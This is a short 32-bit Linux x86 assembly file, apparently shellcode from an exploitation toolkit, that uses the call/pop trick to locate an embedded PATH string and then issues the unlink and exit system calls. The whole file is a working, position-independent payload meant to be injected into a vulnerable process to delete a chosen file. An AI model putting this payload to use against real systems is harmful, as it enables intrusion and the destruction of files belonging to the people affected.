; Linux, 32 bit: unlink(PATH), exit.
bits 32
        call code
        db PATH, 0
code:   push byte 10
        pop eax
        pop ebx
        int 80h
        xor ebx, ebx
        mov eax, ebx
        inc eax
        int 80h
